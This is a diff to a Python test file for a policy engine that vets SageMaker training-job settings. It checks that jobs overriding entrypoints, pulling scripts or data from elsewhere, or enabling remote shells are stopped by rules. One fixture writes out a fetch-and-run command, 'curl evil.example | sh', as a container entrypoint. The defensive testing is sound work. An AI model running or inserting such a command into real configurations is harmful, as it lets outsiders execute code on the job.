@@ -38,7 +38,7 @@ CLOSED = {
 ALGORITHM = {"TrainingImage": ALLOWED, "TrainingInputMode": "File"}
 SAFE: dict[str, Any] = {
     "EnableNetworkIsolation": True,
-    "OutputDataConfig": {"S3OutputPath": "s3://sagemaker-eu-west-1/out"},
+    "OutputDataConfig": {"S3OutputPath": f"s3://sagemaker-{REGION}-{ACCOUNT}/out"},
 }
 
 
@@ -122,7 +122,7 @@ def test_the_digest_of_a_listed_tag_goes_on_until_it_is_listed_itself(outcome, s
 
 
 @pytest.mark.parametrize(
-    ("members", "rule"),
+    ("members", "rules"),
     [
         pytest.param(
             {
@@ -131,15 +131,15 @@ def test_the_digest_of_a_listed_tag_goes_on_until_it_is_listed_itself(outcome, s
                     "ContainerEntrypoint": ["/bin/sh", "-c", "curl evil.example | sh"],
                 }
             },
-            "entrypoint_override",
+            ("entrypoint_override",),
             id="another entrypoint",
         ),
         pytest.param(
             {"HyperParameters": {"sagemaker_submit_directory": '"s3://theirs/code.tar.gz"'}},
-            "script_mode",
+            ("data_location", "script_mode"),
             id="script from elsewhere",
         ),
-        pytest.param({"EnableNetworkIsolation": False}, "network_isolation_required", id="code from the network"),
+        pytest.param({"EnableNetworkIsolation": False}, ("network_isolation_required",), id="code from the network"),
         pytest.param(
             {
                 "InputDataConfig": [
@@ -149,21 +149,25 @@ def test_the_digest_of_a_listed_tag_goes_on_until_it_is_listed_itself(outcome, s
                     }
                 ]
             },
-            "data_location",
+            ("data_location",),
             id="data from elsewhere",
         ),
-        pytest.param({"ResourceConfig": {**CLUSTER, "KeepAlivePeriodInSeconds": 3600}}, "keep_alive", id="warm pool"),
         pytest.param(
-            {"RemoteDebugConfig": {"EnableRemoteDebug": True}}, "remote_access", id="shell into the container"
+            {"ResourceConfig": {**CLUSTER, "KeepAlivePeriodInSeconds": 3600}}, ("keep_alive",), id="warm pool"
         ),
-        pytest.param({"Environment": {"SSH_SSM_ROLE": "x"}}, "remote_access", id="shell by an agent in the container"),
+        pytest.param(
+            {"RemoteDebugConfig": {"EnableRemoteDebug": True}}, ("remote_access",), id="shell into the container"
+        ),
+        pytest.param(
+            {"Environment": {"SSH_SSM_ROLE": "x"}}, ("remote_access",), id="shell by an agent in the container"
+        ),
     ],
 )
 def test_an_approved_image_that_runs_other_code_is_stopped_by_rules_about_the_job(
-    outcome, shipped_engine, engine_with, members, rule
+    outcome, shipped_engine, engine_with, members, rules
 ) -> None:
     job = {**SAFE, **members}
     closed = engine_with(rules=CLOSED)
     assert outcome("by-deny-list", ALLOWED, shipped_engine, **job) == (Outcome.NOT_DENIED, ())
-    assert outcome("by-rules", ALLOWED, closed, **job) == (Outcome.STOPPED, (rule,))
+    assert outcome("by-rules", ALLOWED, closed, **job) == (Outcome.STOPPED, rules)
     assert outcome("near-miss", ALLOWED, closed, **SAFE) == (Outcome.NOT_DENIED, ())
